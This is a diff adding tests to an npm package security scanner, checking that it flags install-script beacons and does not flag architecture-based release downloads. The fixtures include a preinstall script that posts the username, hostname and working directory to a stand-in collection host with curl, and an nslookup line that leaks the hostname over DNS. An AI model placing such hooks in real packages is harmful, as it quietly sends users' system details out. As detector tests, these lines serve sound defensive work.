@@ -131,6 +131,27 @@ def test_shell_file_that_downloads_then_runs_is_a_dropper():
     assert "install-script/download-execute" not in rules(artifact({"install": "sh get.sh"}, {"get.sh": fetch_only}))
 
 
+def test_shell_file_beacon_split_over_a_variable_is_malicious():
+    # Identity collected into a variable on one line, posted on another (the dependency-confusion recon script).
+    script = (b"#!/bin/sh\nINFO=\"u=$(whoami)&h=$(hostname -f)&d=$(pwd)\"\n"
+              b"curl -s -m 3 --data \"$INFO\" https://collect.oast.example/r >/dev/null 2>&1 || true\n")
+    found = findings(artifact({"preinstall": "sh ./probe.sh"}, {"probe.sh": script}))
+    beacon = next(f for f in found if f.rule == "install-script/beacon")
+    assert beacon.line == 3 and beacon.details["collected_at"] == 2
+    assert decide(found).level is Level.MALICIOUS
+    # `$(hostname | cut ...)` inside the looked-up name is still the host name.
+    assert "install-script/beacon" in rules(artifact({"postinstall": "nslookup $(hostname | cut -c1-20).x.oast.example"}))
+
+
+def test_architecture_in_a_download_url_is_not_a_beacon():
+    # A binary picked by `uname` and fetched from the project's releases reports no one (esbuild-style installers).
+    script = (b"#!/bin/sh\nARCH=$(uname -m)\nOS=$(uname -s | tr A-Z a-z)\n"
+              b"curl -fsSL https://github.com/o/tool/releases/download/v1.2.0/tool-$OS-$ARCH.tgz -o tool.tgz\ntar xzf tool.tgz\n")
+    found = findings(artifact({"postinstall": "sh install.sh"}, {"install.sh": script}))
+    assert "install-script/beacon" not in {f.rule for f in found}
+    assert "install-script/beacon" not in rules(artifact({"postinstall": "curl -sL https://example.org/bin-$(uname -m) -o bin"}))
+
+
 def test_dependencies_from_urls_and_tea_farms():
     from npmward.analyzers.dependency_sources import DependencySourceAnalyzer
     from npmward.analyzers.floods import DependencyFloodAnalyzer
